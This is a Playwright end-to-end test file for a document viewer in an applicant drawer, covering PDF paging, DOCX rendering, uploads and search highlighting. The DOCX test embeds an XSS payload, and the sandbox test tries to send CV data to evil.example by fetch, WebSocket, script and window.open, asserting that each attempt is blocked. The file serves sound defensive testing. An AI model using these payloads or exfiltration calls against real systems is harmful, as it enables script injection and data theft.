// The viewer of documents in the drawer, in a real Chromium.
import type { FrameLocator, Locator, Page } from 'playwright';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { applicantFileMessages } from '../../../src/contract/messages.ts';
import { pressEscape } from '../../press-escape.ts';
import { wordFile } from '../../unit/renderer/applicants/word-file.ts';
import { eventually, expectAccessible, pressOn, type RendererPages, rendererPages } from '../page/open-page.ts';

const texts = applicantFileMessages.viewer;
let pages: RendererPages;
beforeAll(async () => {
  pages = await rendererPages();
});
afterAll(() => pages.close());

const drawer = (page: Page): Locator => page.getByRole('dialog', { name: /^Candidato:/ });
/** The frame of a document. */
const documentFrame = (page: Page, name: string): FrameLocator =>
  drawer(page).frameLocator(`iframe[title="${texts.label(name)}"]`);
const ADDRESS = '/selection_processes/7?applicant_id=6';
/** Another user adds a file, and an event reports it. */
const add = (page: Page, name: string, content_type: string, bytes: Uint8Array): Promise<void> =>
  page.evaluate(
    ([file, numbers]) => {
      window.fake.candidates.addFile(6, file, new Uint8Array(numbers));
      const applicant = { ...window.fake.board.card(6), version: window.fake.candidates.get(6).version };
      const { version } = applicant;
      const event = {
        type: 'applicant.changed' as const,
        id: 6,
        process_id: 7,
        sequence: version,
        actor: 'Marcos Soto',
      };
      window.fake.emit({ ...event, version, applicant, counts: [] });
    },
    [{ name, content_type }, [...bytes]] as const,
  );

test('a PDF is shown page by page, with text to select, zoomed and turned over by keyboard [DRAWER-12]', async () => {
  const page = await pages.open('', ADDRESS);
  await drawer(page).getByRole('tab', { name: 'CV' }).click();
  const region = documentFrame(page, 'cv.pdf').getByRole('main', { name: texts.label('cv.pdf') });
  await region.getByText('Camila Rojas, contadora').waitFor();
  await drawer(page).getByText('Página 1 de 2').waitFor();
  const isDrawn = () =>
    region
      .locator('canvas')
      .first()
      .evaluate((canvas: HTMLCanvasElement) => {
        const { data } = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] };
        return data.some((value, index) => index % 4 === 0 && value < 100);
      });
  await eventually(isDrawn).toBe(true);
  await region.focus();
  await page.keyboard.press('ArrowRight');
  await drawer(page).getByText('Página 2 de 2').waitFor();
  await region.getByText('Referencias a pedido').waitFor();
  await page.keyboard.press('+');
  await drawer(page).getByText('125 %').waitFor();
  await page.keyboard.press('0');
  await drawer(page).getByText('100 %').waitFor();
  await expectAccessible(page, '[role="dialog"]');
  await drawer(page).getByRole('button', { name: 'Descargar CV' }).click();
  await page.getByText('Descarga exitosa').waitFor();
});

test('where the drawer is wide the document stands beside the data', async () => {
  const page = await pages.open('', ADDRESS);
  await drawer(page).getByRole('tab', { name: 'CV' }).waitFor();
  await drawer(page).getByRole('button', { name: 'Ampliar el panel' }).click();
  const region = documentFrame(page, 'cv.pdf').getByRole('main', { name: texts.label('cv.pdf') });
  await region.getByText('Camila Rojas, contadora').waitFor();
  await drawer(page).getByLabel('Correo', { exact: true }).waitFor();
  await eventually(() => drawer(page).getByRole('tab', { name: 'CV' }).count()).toBe(0);
  await drawer(page).getByRole('button', { name: 'Reducir el panel' }).click();
  await drawer(page).getByRole('tab', { name: 'CV' }).waitFor();
});

test('the text of a DOCX is shown without anything that it brings along; pictures and texts too; others are downloaded', async () => {
  const page = await pages.open('', ADDRESS);
  await drawer(page).getByRole('tab', { name: 'CV' }).click();
  const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
  await add(page, 'carta.docx', word, await wordFile(['Estimada Ñusta:', '<img src=x onerror=alert(1)>']));
  const choice = drawer(page).getByLabel(texts.choose);
  await choice.selectOption({ label: 'carta.docx' });
  await documentFrame(page, 'carta.docx').getByText('Estimada Ñusta:').waitFor();
  await documentFrame(page, 'carta.docx').getByText('<img src=x onerror=alert(1)>').waitFor();
  await eventually(() => documentFrame(page, 'carta.docx').locator('img').count()).toBe(0);
  await expectAccessible(page, '[role="dialog"]');

  await add(page, 'notas.txt', 'text/plain; charset=utf-8', new TextEncoder().encode('Llamar el jueves'));
  await choice.selectOption({ label: 'notas.txt' });
  await documentFrame(page, 'notas.txt').getByText('Llamar el jueves').waitFor();
  const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
  await add(page, 'foto.png', 'image/png', Buffer.from(dot, 'base64'));
  await choice.selectOption({ label: 'foto.png' });
  await eventually(() =>
    documentFrame(page, 'foto.png')
      .getByRole('img', { name: 'foto.png' })
      .evaluate((image: HTMLImageElement) => image.naturalWidth),
  ).toBe(1);
  await add(page, 'planilla.xlsx', 'application/vnd.ms-excel', new Uint8Array(4));
  await choice.selectOption({ label: 'planilla.xlsx' });
  await drawer(page).getByText(texts.otherKind).waitFor();
});

test('a file that is broken, or cannot be had, says so; nothing is there without a curriculum', async () => {
  const page = await pages.open('', ADDRESS);
  await page.evaluate(() => window.fake.failNext('candidateFiles.content', { code: 'unreachable' }));
  await drawer(page).getByRole('tab', { name: 'CV' }).click();
  await drawer(page).getByText(texts.failed).waitFor();
  await drawer(page).getByRole('button', { name: 'Reintentar' }).click();
  await documentFrame(page, 'cv.pdf').getByText('Camila Rojas, contadora').waitFor();
  await add(page, 'roto.pdf', 'application/pdf', new TextEncoder().encode('no soy un PDF'));
  await drawer(page).getByLabel(texts.choose).selectOption({ label: 'roto.pdf' });
  await drawer(page).getByText(texts.unreadable).waitFor();
  await page.evaluate(() => {
    window.location.hash = '#/selection_processes/7?applicant_id=5';
  });
  await drawer(page).getByText(texts.none).waitFor();
});

test('a curriculum is uploaded where it is missing, and shown there [MORE-173]', async () => {
  const page = await pages.open('', '/selection_processes/7?applicant_id=5');
  await drawer(page).getByRole('tab', { name: 'CV' }).click();
  await drawer(page).getByText(texts.none).waitFor();
  const upload = drawer(page).getByRole('button', { name: applicantFileMessages.uploadCv });
  const chooser = page.waitForEvent('filechooser');
  await upload.focus();
  await page.keyboard.press('Enter');
  await (await chooser).setFiles({ name: 'nuevo.txt', mimeType: 'text/plain', buffer: Buffer.from('Camila') });
  await eventually(() => drawer(page).getByText(texts.none).count()).toBe(0);
  await drawer(page).getByText('nuevo.txt').first().waitFor();
  await upload.waitFor();
  await expectAccessible(page, '[role="dialog"]');
});

test('the drawer’s own keys work within the document, too', async () => {
  const page = await pages.open('', ADDRESS);
  await drawer(page).getByRole('tab', { name: 'CV' }).click();
  const region = documentFrame(page, 'cv.pdf').getByRole('main');
  await region.getByText('Camila Rojas, contadora').waitFor();
  await region.focus();
  await pressEscape(page);
  await drawer(page).waitFor({ state: 'detached' });
});

test('whoever takes hold of the frame of a document reaches neither page nor bridge nor network nor windows', async () => {
  const page = await pages.openAlone('', ADDRESS);
  await drawer(page).getByRole('tab', { name: 'CV' }).click();
  await documentFrame(page, 'cv.pdf').getByText('Camila Rojas, contadora').waitFor();
  const opened: string[] = [];
  page.context().on('page', ({ url }) => opened.push(url()));
  const failedRequests: (string | undefined)[] = [];
  page.on('requestfailed', (request) => failedRequests.push(request.failure()?.errorText));
  const answered: string[] = [];
  page.on('response', (response) => answered.push(response.url()));
  const [, frame] = page.frames();
  const got = await frame?.evaluate(async () => {
    const attempt = async (work: () => unknown): Promise<string> => {
      try {
        return `done: ${String(await work())}`;
      } catch (error) {
        return error instanceof Error ? error.name : 'refused';
      }
    };
    const loaded = (element: HTMLElement) =>
      new Promise((resolve, reject) => {
        element.onload = () => resolve('loaded');
        element.onerror = () => reject(new Error('refused'));
        document.body.append(element);
      });
    const here = window.origin;
    return {
      origin: here,
      bridge: typeof (window as { terna?: unknown }).terna,
      parent: await attempt(() => window.parent.document.title),
      fake: await attempt(() => window.parent.fake),
      top: await attempt(() => {
        window.top?.location.assign('https://evil.example/');
      }),
      storage: await attempt(() => window.localStorage.length),
      cookie: await attempt(() => document.cookie),
      network: await attempt(() => fetch('https://evil.example/?cv=secret')),
      ownNetwork: await attempt(() => fetch('./index.html')),
      socket: await attempt(
        () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket('wss://evil.example/');
            socket.onopen = resolve;
            socket.onerror = () => reject(new Error('refused'));
          }),
      ),
      picture: await attempt(() => loaded(Object.assign(new Image(), { src: 'https://evil.example/x.png' }))),
      script: await attempt(() =>
        loaded(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })),
      ),
      inline: await attempt(() => {
        const script = document.createElement('script');
        script.textContent = 'document.title = "taken"';
        document.body.append(script);
        return document.title;
      }),
      // biome-ignore lint/security/noGlobalEval: the test proves that eval is blocked.
      evaluated: await attempt(() => eval('1 + 1')),
      window: await attempt(() => window.open('https://evil.example/')),
    };
  });
  expect(got).toEqual({
    ...{ origin: 'null', bridge: 'undefined', parent: 'SecurityError', fake: 'SecurityError', top: 'SecurityError' },
    ...{ storage: 'SecurityError', cookie: 'SecurityError', network: 'TypeError', ownNetwork: 'TypeError' },
    ...{ socket: 'Error', picture: 'Error', script: 'Error', inline: 'done: Terna', evaluated: 'EvalError' },
    window: 'done: null',
  });
  expect(opened).toEqual([]);
  // The frame's policy blocked the picture and the script.
  expect(failedRequests).toEqual(['csp', 'csp']);
  expect(answered).toEqual([]);
  expect(page.url()).toContain('/selection_processes/7');
  // The page ignores messages of the document, except a few allowed ones.
  await drawer(page).getByText('Página 1 de 2').waitFor();
});

test('the words of the search are marked on the curriculum, one after the other [MORE-471]', async () => {
  const page = await pages.open('', `${ADDRESS}&q=contadora%20pedido`);
  await drawer(page).getByText(texts.marks.found('contadora pedido', 2)).waitFor();
  await expectAccessible(page, '[role="dialog"]');
  await pressOn(drawer(page).getByRole('button', { name: texts.marks.show }), 'Enter');
  const current = documentFrame(page, 'cv.pdf').locator('.mark[data-current]');
  await drawer(page).getByText(texts.marks.position(1, 2)).waitFor();
  await eventually(() => documentFrame(page, 'cv.pdf').locator('.mark').count()).toBe(2);
  const pageOf = () =>
    current.evaluate((mark) => [...document.querySelectorAll('.page')].indexOf(mark.parentElement as Element) + 1);
  await eventually(pageOf).toBe(1);
  await pressOn(drawer(page).getByRole('button', { name: texts.marks.next }), 'Enter');
  await drawer(page).getByText(texts.marks.position(2, 2)).waitFor();
  await eventually(pageOf).toBe(2);
  await drawer(page).getByText('Página 2 de 2').waitFor();
  await expectAccessible(page, '[role="dialog"]');
});
